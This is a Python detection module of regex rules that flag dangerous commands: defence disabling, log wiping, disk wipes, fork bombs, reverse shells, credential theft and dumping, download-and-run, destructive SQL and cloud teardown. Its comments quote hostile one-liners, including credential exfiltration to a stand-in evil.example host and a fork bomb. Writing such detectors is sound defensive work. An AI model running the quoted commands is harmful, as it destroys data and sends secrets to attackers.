_SEC_UNITS = r"(?:firewalld|ufw|iptables|nftables|apparmor|auditd|selinux|fail2ban|falcon-sensor|wazuh-agent|osqueryd)"
_MAC_SENSORS = r"(?i:crowdstrike|falcon|carbonblack|cbdefense|sentinel|jamf\.protect|osquery|santa|xprotect)"
_SYS_LOGS = r"/var/log/(?:auth\.log|secure|syslog|messages|wtmp|btmp|lastlog|kern\.log|audit/audit\.log)"
shell_rule("code.sh_impair_defenses", re.compile(
    r"\bsetenforce\s+(?:0|permissive)\b|\bufw\s+(?:--force\s+)?disable\b"
    r"|\brandomize_va_space\s*=\s*0\b|\becho\s+0\s*>\s*/proc/sys/kernel/randomize_va_space\b"
    r"|(?i:\\services\\windefend\b[^\n]{0,80}?/v\s+start\b[^\n]{0,60}?/d\s+4\b"
    r"|\bsc(?:\.exe)?\s+(?:stop|delete|config)\s+windefend\b)"
    r"|\biptables\s+(?:-t\s+\w+\s+)?(?:-F|--flush)(?=$|[\s;&|)])"
    r"|\bsystemctl\s+(?:stop|disable|mask)\s+(?:--now\s+)?" + _SEC_UNITS + r"(?:\.service)?\b"
    r"|\bnetsh\s+advfirewall\s+set\s+\w+\s+state\s+off\b"
    r"|(?i:\bset-mppreference\b[^\n]{0,80}?-disable\w+\s+(?:\$true|1)\b"
    r"|\b(?:add|set)-mppreference\b[^\n]{0,80}?-exclusion(?:path|process|extension)\b"
    r"|\bwevtutil(?:\.exe)?\s+(?:cl|clear-log)\b|\bclear-eventlog\b"
    # PowerShell's own command history deleted or no longer kept
    r"|\bremove-item\b[^\n]{0,40}?\(get-psreadlineoption\)\.historysavepath\b"
    r"|\bset-psreadlineoption\b[^\n]{0,40}?-historysavestyle\s+savenothing\b"
    # the means of recovery destroyed (ransomware's first step): shadow copies, backups, boot recovery
    r"|\bvssadmin(?:\.exe)?\s+delete\s+shadows\b|\bwmic(?:\.exe)?\s+shadowcopy\s+delete\b"
    r"|\bwbadmin(?:\.exe)?\s+delete\s+(?:catalog|systemstatebackup|backup)\b"
    r"|\bbcdedit(?:\.exe)?\s+/set\s+\S+\s+(?:recoveryenabled\s+no|bootstatuspolicy\s+ignoreallfailures)\b)"
    r"|\bhistory\s+-c\b|\bunset\s+HISTFILE\b|\bexport\s+HISTFILE=/dev/null\b"
    r"|\bexport\s+HIST(?:FILE)?SIZE=0\b|\bset\s+\+o\s+history\b"
    # auditing off (every audit rule deleted, or auditing disabled); the journal vacuumed down to
    # its last seconds or minutes (not "--vacuum-time=2weeks", routine upkeep)
    r"|\bauditctl\s+(?:-D\b|-e\s*0\b)|\bjournalctl\s[^\n]{0,160}?--vacuum-time=\d+(?:s|sec|m|min)?\b"
    # macOS: Gatekeeper, System Integrity Protection or the quarantine of downloads turned off,
    # an endpoint sensor's launch daemon unloaded
    r"|\bspctl\s+--(?:master|global)-disable\b|\bcsrutil\s+disable\b"
    r"|\bdefaults\s+write\s+com\.apple\.LaunchServices\s+LSQuarantine\s+-bool\s+(?:NO|false|0)\b"
    r"|\blaunchctl\s+(?:unload|bootout|disable|remove)\b[^\n]{0,120}?" + _MAC_SENSORS +
    r"|\brm\s+(?:-\w+\s+)*[\"']?(?:~|\$HOME)/\.(?:bash|zsh)_history\b"
    r"|(?:^|[\s;&|(])(?:>|:\s*>|cat\s+/dev/null\s*>|truncate\s+-s\s*0)\s*[\"']?" + _SYS_LOGS + r"\b"
    r"|\b(?:shred|rm)\s+(?:-\w+\s+)*[\"']?" + _SYS_LOGS + r"\b"
    r"|\brm\s+(?:-\w+\s+)*[\"']?/var/log/?\*?[\"']?(?=$|[\s;&|)])", re.M),
    ("setenforce", "ufw", "iptables", "systemctl", "netsh", "history", "HISTFILE", "HISTSIZE", "_history", "/var/log",
     "randomize_va_space", "auditctl", "journalctl", "spctl", "csrutil", "LSQuarantine", "launchctl"),
    "the system's defences turned off or its traces wiped (setenforce 0, ufw disable, iptables -F, Defender off, "
    "auditing off, Gatekeeper or SIP off, history -c, system logs emptied, shadow copies deleted)",
    "MITRE ATT&CK T1562.001/.004/.012 (disable tools, firewall, Linux audit), T1553.001 (Gatekeeper bypass), "
    "T1070.002/.003 (clear logs, command history), T1490 (inhibit system recovery); "
    "Sigma rules for the same commands",
    itriggers=("set-mppreference", "add-mppreference", "wevtutil", "clear-eventlog", "vssadmin", "shadowcopy",
               "wbadmin", "bcdedit", "windefend", "psreadlineoption"))
# The fork bomb under any name: a function that pipes itself into itself in the background and
# is then called (":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb").
_DEV = r"/dev/(?:sd|hd|nvme|xvd|vd|disk|mmcblk)"
shell_rule("code.sh_disk_wipe", re.compile(
    r"\bmkfs(?:\.\w+)?\s+(?:-\S+\s+(?:[^\s/-]\S*\s+)?)*/dev/|\bdd\s+[^\n]*\bof=" + _DEV
    + r"|\b(?:wipefs\s+(?:-\S+\s+)*(?:-[a-zA-Z]*a[a-zA-Z]*|--all)\s+(?:-\S+\s+)*|shred\s+(?:-\S+\s+(?:\d+\s+)?)*"
    r"|blkdiscard\s+(?:-\S+\s+)*|sgdisk\s+(?:-\S+\s+)*(?:--zap-all|-Z)\s+(?:-\S+\s+)*)" + _DEV
    + r"|(?<![\w:.-])(?:function\s+)?([\w:.-]+)\s*\(\)\s*\{\s*\1\s*\|\s*\1\s*&\s*;?\s*\}\s*;\s*\1(?![\w:.-])"
    r"|>\s*/dev/sd[a-z]\b"
    # Windows: format C: with a switch, PowerShell's Format-Volume and Clear-Disk
    r"|(?i:\bformat(?:\.com)?\s+[a-z]:\s*/[a-z]|\bformat-volume\b[^\n]*-driveletter\b"
    r"|\bclear-disk\b[^\n]*-remove(?:data|oem)\b)"
    # a fork bomb in perl, Python or C: fork while fork, while(1) fork()
    r"|\bfork\s+while\s+fork\b|\bwhile\s*\(?\s*(?:1|true|True)\s*\)?\s*[:{]?\s*(?:os\.)?fork\s*\(\s*\)"
    # every file of a tree encrypted where it lies, as ransomware does ("find / -name '*.docx' -exec openssl enc ...")
    r"|\bfind\s+(?:-[HLP]\s+)*[\"']?(?:/|~|\$HOME|/home|/srv|/var)/?[\"']?\s[^\n]{0,200}?-exec\s+"
    r"(?:openssl\s+(?:enc|aes)|"
    r"gpg\s+(?:-\w+\s+)*(?:-c|--symmetric|-e|--encrypt)\b|7z\s+a\s+-p|zip\s+(?:-\w+\s+)*-P\b|ccrypt\b)"),
    ("mkfs", "of=/dev/", ":()", "(){", "() {", "/dev/sd", "wipefs", "shred", "blkdiscard", "sgdisk", "-exec "),
    "disk wipe or fork bomb (mkfs/dd/wipefs/shred to a device, format C:, :(){ :|:& };:), or every file of a tree "
    "encrypted in place",
    "well-known destructive one-liners: mkfs/dd/wipefs/shred onto a device, format and Format-Volume, the bash fork "
    "bomb; MITRE ATT&CK T1486 (data encrypted for impact)", itriggers=("format", "clear-disk"), prose=True,
    pattern=r"fork\s+while\b|while[^\n]{0,20}fork\s*\(")
# A shell handed to a remote host: bash's /dev/tcp, netcat/ncat -e, a fifo piped through nc,
# socat exec:, as the reverse-shell cheat sheets write them.
shell_rule("code.sh_reverse_shell", re.compile(
    r"[<>]&?\s*/dev/(?:tcp|udp)/[\w.\-]+/\d+"
    r"|\b(?:nc|ncat|netcat)\b[^\n|;]{0,300}\s-(?:e|c)\s*[\"']?(?:/usr)?(?:/bin/)?(?:ba|z|da|k)?sh\b"
    r"|\bmkfifo\b[^\n]{0,300}\|\s*(?:/bin/)?(?:ba|z|da)?sh\b[^\n]{0,300}\|\s*(?:nc|ncat|netcat)\b"
    r"|\bsocat\b[^\n]{0,300}\bexec:[\"']?(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh\b"
    # a scripting language's socket and a shell on it (Python, Perl, PHP, Ruby one-liners)
    r"|(?:\btcpsocket\.(?:open|new)|\bfsockopen|\bsocket\.socket|\bsocket\s*\(|\bio::socket::inet)[^\n]{0,400}?"
    r"(?:(?:/bin/)?(?:ba|z|da|k)?sh\s+-i\b|[\"'](?:/bin/)?(?:ba|z|da|k)?sh[\"']|\bpty\.spawn|\bcmd(?:\.exe)?[\"'])", re.I),
    ("/dev/tcp", "/dev/udp", "mkfifo"), "reverse shell (/dev/tcp redirect, nc -e, socat exec:, a socket handed to sh)",
    "MITRE ATT&CK T1059.004; PayloadsAllTheThings reverse-shell cheat sheet forms",
    itriggers=("nc ", "ncat", "netcat", "socat", "socket", "fsockopen"), prose=True)
# A credential store sent off the machine: a private SSH key (or the whole ~/.ssh), cloud, registry,
# Kubernetes, netrc or PostgreSQL credentials, the shadow file, uploaded by curl/wget (@file,
# --upload-file, --post-file), piped or redirected into curl/nc/socat, copied to a remote host by
# scp/rsync, or swept up by find -exec (MITRE ATT&CK T1552.004 private keys, T1048/T1041
# exfiltration). A public key (.pub), a CA bundle (--cacert x.pem), a key downloaded or copied
# locally are not.
_CRED = (r"(?:(?:(?:~|\$HOME|\$\{HOME\}|/root|/home/[\w.-]+|/Users/[\w.-]+)/|(?<![\w.-]))"
         r"(?:\.ssh(?:/id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?(?![\w.])|/?(?=[\s\"'|;&)<>]|$))"
         r"|\.(?:aws/credentials|netrc|pgpass|git-credentials|docker/config\.json|kube/config|gnupg|bash_history|"
         r"zsh_history)(?![\w.-])"
         r"|id_(?:rsa|dsa|ecdsa|ed25519)(?![\w.])|[\w.-]*(?:privkey|private[_-]?key)[\w.-]*\.(?:pem|key)(?![\w.]))"
         r"|/etc/(?:shadow|gshadow|master\.passwd|passwd)(?![\w.-]))")
_NET = r"(?:curl|wget|nc|ncat|netcat|socat|telnet|openssl\s+s_client)"
shell_rule("code.sh_credential_exfil", re.compile(
    r"\b(?:curl|wget)\b[^\n|;]{0,200}?(?:@|--post-file[= ]\s*|--upload-file\s+|\s-T\s*)[\"']?" + _CRED
    + r"|" + _CRED + r"[\"']?[^\n;]{0,200}?\|\s*(?:sudo\s+)?" + _NET + r"\b"
    # the environment, its tokens and keys with it: "env | curl -d @- https://..."
    + r"|(?<![\w.-])(?:env|printenv)\s*\|\s*(?:sudo\s+)?(?:curl|wget)\b[^\n|;]{0,200}?@-"
    r"|(?<![\w.-])(?:env|printenv)\s*\|\s*(?:sudo\s+)?(?:nc|ncat|netcat|socat|telnet)\b"
    # a cloud or cluster token printed and piped to the network ("gcloud auth print-access-token | curl -d @- ...")
    r"|\b(?:gcloud\s+auth\s+(?:application-default\s+)?print-(?:access|identity)-token"
    r"|az\s+account\s+get-access-token|aws\s+(?:sts\s+get-session-token|secretsmanager\s+get-secret-value"
    r"|configure\s+export-credentials|ecr\s+get-login-password)|vault\s+(?:kv\s+get|read|token\s+create)"
    r"|kubectl\s+(?:create\s+token|get\s+secrets?))\b[^\n;|]{0,200}?\|\s*(?:sudo\s+)?" + _NET + r"\b"
    + r"|\b(?:nc|ncat|netcat|socat|telnet)\b[^\n|;]{0,100}?<\s*[\"']?" + _CRED
    # ... or read into the request itself: "curl https://x/$(cat ~/.ssh/id_rsa | base64)", "?k=$(base64 ~/.netrc)",
    # or into a name looked up ("nslookup $(cat ~/.aws/credentials | base64 | head -c 60).evil.example": DNS)
    + r"|\b(?:curl|wget|nslookup|dig|host|drill|ping)\b[^\n;]{0,200}?(?:\$\(|`)\s*(?:sudo\s+)?(?:cat|base64|xxd|gzip|openssl\s+base64|head|tail)"
      r"\b[^\n)`|]{0,40}?\s[\"']?" + _CRED
    + r"|\b(?:scp|rsync|sftp)\b[^\n|;]{0,200}?\s[\"']?" + _CRED + r"[\"']?(?:\s+-\S+)*\s+[\w.-]+@?[\w.-]*:"
    + r"|\bfind\b[^\n]{0,160}?-i?name\s+[\"']?[^\s\"']*"
      r"(?:\.pem|\.key|id_rsa|id_ed25519|id_ecdsa|id_dsa|id_\*|credentials)"
      r"[\"']?[^\n]{0,160}?-exec\s+(?:curl|wget|scp|nc|ncat)\b"
    # the same from Python: the file read into a request ("requests.post(url, data=open('~/.ssh/id_rsa').read())")
    + r"|\b(?:requests|httpx|session|urllib\.request|urllib2)\.(?:post|put|patch|get|request|urlopen)\s*\([^\n]{0,300}?"
      r"\bopen\s*\(\s*(?:os\.path\.expanduser\s*\(\s*)?[rbuf]?[\"']" + _CRED
    + r"|\burlopen\s*\([^\n]{0,300}?\bopen\s*\(\s*(?:os\.path\.expanduser\s*\(\s*)?[rbuf]?[\"']" + _CRED
    # every home, or the system's configuration, packed and sent ("tar czf - /home | nc host 9000")
    + r"|\btar\s+[^\n|;]{0,100}?\s[\"']?(?:/home|/root|/etc|/Users)/?[\"']?(?=[\s|])[^\n|;]{0,100}\|\s*(?:sudo\s+)?"
    + _NET + r"\b"),
    (".ssh", "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", ".aws/credentials", ".netrc", ".pgpass", ".git-credentials",
     "_history", "env |", "env|", "printenv",
     ".docker/config", ".kube/config", ".gnupg", "/etc/shadow", "/etc/gshadow", "/etc/passwd", "master.passwd",
     "privkey", "private_key", "private-key", ".pem", ".key",
     # (a tree packed by tar and piped on: "tar " alone is in "guitar " and "star ")
     "| nc", "|nc", "| ncat", "| netcat", "| socat", "| curl", "|curl", "| wget", "|wget", "| telnet", "| openssl"),
    "a credential store sent off the machine (an SSH private key, cloud or registry credentials, /etc/shadow "
    "uploaded, piped to the network, copied to a remote host or read into a Python request; a cloud or cluster "
    "token printed and piped to the network; every home packed and piped to the network)",
    "MITRE ATT&CK T1552.004 (private keys), T1552.001 (credentials in files), T1048/T1041 (exfiltration), "
    "T1048.003 (over DNS)",
    itriggers=("privatekey",), prose=True)
# The system's own credentials dumped (MITRE ATT&CK T1003): Mimikatz and its sekurlsa module, the
# LSASS process's memory written to a file (procdump, comsvcs.dll's MiniDump), the SAM, SECURITY
# or SYSTEM hive saved, the shadow file read, impacket's secretsdump, LaZagne. A command, not prose:
# "Mimikatz's sekurlsa::logonpasswords reads LSASS" in an article is about it.
_READ = r"(?:cat|less|more|head|tail|strings|cp|base64|xxd)"  # a file's contents printed or copied
shell_rule("code.credential_dump", re.compile(
    r"(?i:\binvoke-mimikatz\b"
    r"|\bmimikatz(?:\.exe)?\s+(?:[\"']?\w+::\w+[\"']?\s+)*[\"']?(?:sekurlsa|lsadump|kerberos|crypto)::\w+"
    r"|^\s*(?:privilege::debug\s+)?(?:sekurlsa|lsadump)::\w+"
    r"|\bprocdump(?:64)?(?:\.exe)?\s+(?:-\w+\s+)*-ma?\s+(?:-\w+\s+)*lsass(?:\.exe)?\b"
    r"|\bcomsvcs(?:\.dll)?[\s,]+(?:#24|minidump)\b|\bout-minidump\b[^\n]{0,100}?\blsass\b"
    r"|\breg(?:\.exe)?\s+save\s+[\"']?HK(?:LM|EY_LOCAL_MACHINE)\\(?:sam|security|system)\b"
    r"|\bsecretsdump(?:\.py)?\s|\blazagne(?:\.exe)?\s+all\b)"
    r"|(?:^|&&\s*|\|\|\s*|\bsudo\s+)" + _READ + r"\s+(?:-\S+\s+)*"
    r"/etc/(?:shadow|gshadow)"
    r"(?![\w.-])"
    # a cloud machine's own credentials fetched from its metadata service (AWS, GCP, Azure, ECS)
    r"|(?i:\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|http)\b[^\n|;]{0,200}?"
    r"(?:169\.254\.169\.254/latest/meta-data/iam/security-credentials"
    r"|(?:169\.254\.169\.254|metadata\.google\.internal)/computeMetadata/v1/instance/service-accounts/[^\s/\"']+/"
    r"(?:token|identity)|169\.254\.169\.254/metadata/identity/oauth2/token|169\.254\.170\.2/v2/credentials))"
    # a Kubernetes pod's service-account token read, a cluster's secret decoded, pid 1's environment read
    r"|\b" + _READ + r"\s+(?:-\S+\s+)*[\"']?"
    r"(?:/var)?/run/secrets/kubernetes\.io/serviceaccount/token\b"
    r"|\bkubectl\s+get\s+secrets?\b[^\n;]{0,200}?(?:\|\s*base64\s+(?:-d|-D|--decode)\b|base64decode)"
    r"|\b(?:cat|strings|tr|xargs|head|less|more)\s[^\n|;]{0,40}?/proc/(?:1|\*)/environ\b", re.M),
    ("mimikatz", "sekurlsa::", "lsadump::", "procdump", "comsvcs", "minidump", "secretsdump", "lazagne", "/etc/shadow",
     "/etc/gshadow", "169.254.169.254", "169.254.170.2", "metadata.google.internal", "serviceaccount/token",
     "get secret", "/environ"),
    "the system's credentials dumped (Mimikatz, an LSASS memory dump, the SAM hive saved, /etc/shadow read, "
    "secretsdump, LaZagne, a cloud machine's credentials fetched from its metadata service, a pod's service-account "
    "token read, a Kubernetes secret decoded)",
    "MITRE ATT&CK T1003.001 (LSASS memory), T1003.002 (SAM), T1003.008 (/etc/shadow), T1552.005 (cloud instance "
    "metadata API), T1552.007 (container API); Sigma rules for procdump and comsvcs MiniDump of lsass",
    itriggers=("reg save", "reg.exe save", "invoke-mimikatz", "out-minidump"))
# PowerShell fetching a script and running it: IEX with a download, a download piped to iex, an
# encoded command.
shell_rule("code.ps_download_exec", re.compile(
    r"\b(?:iex|invoke-expression)\b[^\n]{0,200}?(?:downloadstring|downloadfile|invoke-webrequest|invoke-restmethod"
    r"|\biwr\b|\birm\b|net\.webclient)"
    r"|\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget)\b[^\n|]{0,1000}\|\s*(?:iex|invoke-expression)\b"
    r"|\bpowershell(?:\.exe)?\b[^\n]{0,500}\s-e(?:nc(?:odedcommand)?)?\s+[A-Za-z0-9+/]{20,}={0,2}"
    # a payload decoded from base64 and run: [Convert]::FromBase64String(...) ... | iex, iex(... FromBase64String ...)
    r"|\bfrombase64string\b[^\n]{0,300}?\|\s*(?:iex|invoke-expression)\b"
    r"|\b(?:iex|invoke-expression)\b[^\n]{0,200}?\bfrombase64string\b", re.I),
    (), "PowerShell download-and-run (IEX with DownloadString, iwr | iex, -EncodedCommand)",
    "MITRE ATT&CK T1059.001; Sigma rules for PowerShell download cradles and encoded commands",
    itriggers=("iex", "invoke-expression", "powershell"), prose=True)
# Windows' own binaries fetching code from a URL and running it (living off the land, as the
# LOLBAS project lists them): certutil -urlcache, mshta and regsvr32 /i: with a URL, bitsadmin
# /transfer, rundll32 with a javascript: URL. The URL is what makes it a download: "certutil
# -hashfile" or a sentence about mshta is not one.
shell_rule("code.win_download_exec", re.compile(
    r"\bcertutil(?:\.exe)?\b[^\n|;]{0,200}?\s[-/]urlcache\b[^\n|;]{0,200}?\b(?:https?|ftp)://"
    r"|\bmshta(?:\.exe)?\s+[\"']?(?:https?://|\\\\|(?:java|vb)script:)"
    r"|\bregsvr32(?:\.exe)?\b[^\n|;]{0,200}?\s/i:\s*[\"']?(?:https?://|\\\\)"
    r"|\bbitsadmin(?:\.exe)?\s+(?:/\w+\s+)*/transfer\b[^\n|;]{0,200}?\b(?:https?|ftp)://"
    r"|\brundll32(?:\.exe)?\b[^\n|;]{0,200}?\bjavascript:", re.I),
    (), "Windows download-and-run through a system binary (certutil -urlcache, mshta URL, regsvr32 /i:URL)",
    "MITRE ATT&CK T1105, T1218.005 mshta, T1218.010 regsvr32, T1218.011 rundll32, T1197 BITS; LOLBAS project",
    itriggers=("certutil", "mshta", "regsvr32", "bitsadmin", "rundll32"), prose=True)
# SQL that destroys data: DROP DATABASE/SCHEMA/TABLE, TRUNCATE, DELETE without WHERE. A
# statement, not prose: the object name ends the statement (";", the line, CASCADE), so
# "drop table tennis from the list" is not one.
shell_rule("code.sql_destructive", re.compile(
    r"\b(?:drop\s+(?:database|schema|table)|truncate\s+table|(?-i:TRUNCATE))\s+(?:if\s+exists\s+)?[\w.\"`\[\]]+"
    r"(?:\s*,\s*[\w.\"`\[\]]+)*\s*(?:;|$|\bcascade\b|\brestrict\b)"
    r"|\bdelete\s+from\s+[\w.\"`\[\]]+\s*(?:;|$)"
    # A WHERE that holds for every row deletes them all: "WHERE 1=1", "WHERE true", "... OR 'a'='a'";
    # only as the whole condition or OR-ed in ("WHERE 1=1 AND id = 5" is a query builder's idiom).
    r"|\bdelete\s+from\s+[\w.\"`\[\]]+\s+where\s+(?:[^;\n]{0,200}?\bor\s+)?"
    r"(?:(?<![\w.])(\d+)\s*=\s*\1(?![\w.])|'([^'\n]*)'\s*=\s*'\2'|true|1|not\s+false)(?=\s*(?:;|$|--|\bor\b))"
    # every row rewritten (UPDATE ... SET with no WHERE or FROM to the statement's end: a ";" or the
    # text's; a statement that goes on to the next line may hold its WHERE there), a column dropped
    r"|\bupdate\s+[\w.\"`\[\]]+\s+set\s+[\w.\"`\[\]]+\s*=(?:(?!\b(?:where|from)\b)[^;\n]){1,300}?\s*(?:;|\Z)"
    r"|\balter\s+table\s+(?:if\s+exists\s+)?[\w.\"`\[\]]+\s+drop\s+column\b"
    # MongoDB and Redis: a collection or a database dropped, every document removed, every key flushed
    r"|\bdb\.(?:dropDatabase\s*\(\s*\)|[\w$]+\.(?:drop\s*\(\s*\)|(?:deleteMany|remove)\s*\(\s*\{\s*\}\s*\)))"
    r"|(?:\bredis-cli\b[^\n;|&]{0,100}\s|^\s*)(?-i:FLUSHALL|FLUSHDB|flushall|flushdb)\b",
    re.I | re.M),
    (), "destructive SQL (DROP DATABASE/TABLE, TRUNCATE, DELETE without WHERE or with an always-true WHERE, "
        "UPDATE without WHERE, DROP COLUMN), a MongoDB drop or deleteMany({}), Redis FLUSHALL",
    "CWE-89 impact examples; sqlfluff/Squawk guidance on destructive statements",
    itriggers=("drop ", "truncate", "delete ", "update ", "drop column", "dropdatabase", ".drop(", "deletemany",
               ".remove(", "flushall", "flushdb"),
    # "truncate users;": TRUNCATE's TABLE is optional, but in lower case with no TABLE it is a
    # statement only in code ("We should truncate logs; the disk is full." is a sentence)
    code_only=re.compile(r"\btruncate\s+[\w.\"`\[\]]+\s*;", re.I))
# A shared branch's history overwritten or deleted on the remote: git push forced (--force, -f
# among short flags, a "+" refspec) onto main, master, trunk, develop, a production, release or
# stable branch, or onto every branch (--all, --mirror: the remote made this clone's copy), and
# such a branch deleted (--delete, ":main"). What a forced push to one's own topic branch does
# ("git push -f origin feature-x") is routine, as is a bare "git push -f" (the branch is
# whatever is checked out); --force-with-lease and --force-if-includes check the remote first.
# (git's own options before "push": a few, taken possessively; "git -C -C -C ..." unbounded read
# each "git" to the text's end, 1.9 s for 32,000 characters)
_GIT_PUSH = re.compile(r"\bgit\s+(?:(?:-[Cc]|--git-dir|--work-tree)[=\s]\s*\S+\s+|--?[\w-]+\s+){0,6}+push\b([^\n;&|]*)")
_SHARED_BRANCH = re.compile(r"(?:refs/heads/)?(?:main|master|trunk|develop|development|dev|prod|production|"
                            r"release(?:s)?(?:[/_.-][\w./-]+)?|stable|live|gh-pages)", re.I)
_PUSH_ARG_FLAGS = frozenset(("-o", "--push-option", "--repo", "--receive-pack", "--exec"))  # each takes the next word


def _push_overwrites(args: str) -> bool:
    """Whether ``git push``'s arguments force or delete a shared branch (or every branch)."""
    words = args.split()
    forced = deleting = everything = False
    refspecs, positional, skip = [], 0, False
    for w in words:
        if skip:
            skip = False
        elif w in _PUSH_ARG_FLAGS:
            skip = True
        elif w == "--force":
            forced = True
        elif w in ("--delete", "-d"):
            deleting = True
        elif w in ("--all", "--branches"):
            everything = True
        elif w == "--mirror":
            return True
        elif w.startswith("--"):
            continue  # --force-with-lease, --tags, --set-upstream, --repo=...
        elif w.startswith("-") and len(w) > 1:
            forced = forced or ("f" in w[1:] and w[1:].isalpha())
            deleting = deleting or ("d" in w[1:] and w[1:].isalpha())
        else:
            positional += 1
            if positional > 1:  # the first is the remote
                refspecs.append(w.strip("\"'`").rstrip(".,;)"))  # a sentence's full stop is not the branch's
    if everything and forced:
        return True
    for spec in refspecs:
        plus = spec.startswith("+")
        src, colon, dst = spec.lstrip("+").partition(":")
        if _SHARED_BRANCH.fullmatch(dst if colon else src) and (forced or plus or deleting or (colon and not src)):
            return True
    return False


shell_rule("code.git_history_overwrite", _GIT_PUSH, ("git ",),
            "a forced push or a delete of a shared branch (git push --force origin main, --mirror, :main)",
            "git-push(1) on --force, --mirror and --delete; GitHub and GitLab protected-branch defaults "
            "(no force pushes, no deletion)", check=lambda m: _push_overwrites(m.group(1)), risk=0.5)


# Infrastructure torn down with no prompt: a Kubernetes namespace or everything of a kind deleted,
# an S3 bucket emptied or removed, terraform destroy approved in advance, a cloud project or
# resource group deleted without asking. "kubectl delete pod web-1" and a bare "terraform destroy"
# (it asks first) are routine.
shell_rule("code.cloud_destroy", re.compile(
    r"\bkubectl\s+(?:-\S+\s+){0,6}delete\s+(?:(?:namespace|namespaces|ns)\s+[\w.-]+"
    r"|[\w.,/-]+\s+(?:[^\n;|&]{0,200}\s)?--all\b)"
    r"|\baws\s+s3\s+(?:rm\s+s3://\S+(?:\s+[^\n;|&]{0,200})?\s--recursive\b"
    r"|rb\s+s3://\S+(?:\s+[^\n;|&]{0,200})?\s--force\b)"
    r"|\bterraform\s+(?:destroy|apply\s+(?:[^\n;|&]{0,200}\s)?-destroy)\b[^\n;|&]{0,200}\s-auto-approve\b"
    r"|\bgcloud\s+(?:[\w-]+\s+){1,4}delete\b[^\n;|&]{0,200}\s(?:--quiet|-q)\b"
    r"|\baz\s+group\s+delete\b[^\n;|&]{0,200}\s(?:--yes|-y)\b"
    r"|\b(?:gsutil\s+(?:-\w+\s+)*rm|gcloud\s+storage\s+rm)\s+(?:-\w+\s+)*-[a-zA-Z]*[rR]\b[^\n;|&]{0,100}?\sgs://"
    # every Docker volume (the containers' data) removed: pruned with --all or with the system, or each listed one
    r"|\b(?:docker|podman)\s+(?:volume\s+prune\b[^\n;|&]{0,100}?\s(?:-[a-zA-Z]*a[a-zA-Z]*|--all)\b"
    r"|system\s+prune\b[^\n;|&]{0,100}?\s--volumes\b"
    r"|volume\s+rm\s+(?:-\w+\s+)*\$\(\s*(?:docker|podman)\s+volume\s+ls\s+-q\s*\))"),
    ("kubectl ", "aws s3 ", "terraform ", "gcloud ", "az group ", "gsutil ", "docker ", "podman "),
    "infrastructure deleted with no prompt (a Kubernetes namespace or --all, an S3 or GCS bucket emptied, terraform "
    "destroy -auto-approve, a cloud project or resource group, every Docker volume)",
    "MITRE ATT&CK T1485 (data destruction), T1578.003 (delete cloud instance); the tools' own confirmation flags")
